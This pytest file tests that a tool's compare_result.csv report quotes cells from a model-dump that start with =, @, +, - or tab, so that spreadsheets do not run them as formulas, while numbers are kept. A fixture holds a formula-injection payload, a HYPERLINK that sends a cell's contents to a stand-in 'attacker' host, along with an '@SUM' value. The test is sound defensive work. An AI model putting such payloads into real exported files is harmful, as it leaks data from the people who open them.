"""compare_result.csv never hands a spreadsheet a formula from a dump (issue #26 item 5): a
module named ``=HYPERLINK(...)`` in a real msprobe dump lands quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

from pytest_precalign.cli import main
from tests.helpers.paths import MSPROBE_DATA

DUMP = MSPROBE_DATA / "micro" / "base_micro_statistics_L0_statistics"
EVIL = '=HYPERLINK("http://attacker/"&A1;"x")'


def _renamed(to: Path) -> Path:
    (rank,) = (DUMP / "step0").iterdir()
    target = to / "step0" / "rank0"
    shutil.copytree(rank, target)
    for name in ("dump.json", "construct.json"):
        text = (target / name).read_text()
        (target / name).write_text(text.replace("Module.model.embed_tokens.", "Module.@SUM(1).embed_tokens."))
    dump = target / "dump.json"
    dump.write_text(dump.read_text().replace("Module.lm_head.", "Module." + EVIL.replace('"', '\\"') + "."))
    return target


def test_formula_cells_are_quoted_and_numbers_kept(tmp_path: Path) -> None:
    golden = _renamed(tmp_path / "golden")
    target = _renamed(tmp_path / "target")
    assert main(["compare", str(golden), str(target), "--report", str(tmp_path / "out")]) == 0
    with (tmp_path / "out" / "compare_result.csv").open(newline="") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "@", "+", "\t", "\r"))]
    assert any(c.startswith("'" + EVIL) for c in cells), "the hostile name is kept, quoted"
    assert any(c.startswith("'@SUM(1).embed_tokens") for c in cells)
    negatives = [c for c in cells if c.startswith("-")]
    assert negatives and all(c in ("-inf", "-nan") or float(c) < 0 for c in negatives)


def test_inert_keeps_numbers_and_text() -> None:
    from pytest_precalign.reports.compare_csv import inert

    assert [inert(c) for c in ("-1.5e-3", "+2", "-inf", "lm_head", "", "N/A")] == [
        "-1.5e-3",
        "+2",
        "-inf",
        "lm_head",
        "",
        "N/A",
    ]
    assert [inert(c) for c in ("=1+2", "-cmd", "@x", "\tx", "\rx", "+x")] == [
        "'=1+2",
        "'-cmd",
        "'@x",
        "'\tx",
        "'\rx",
        "'+x",
    ]
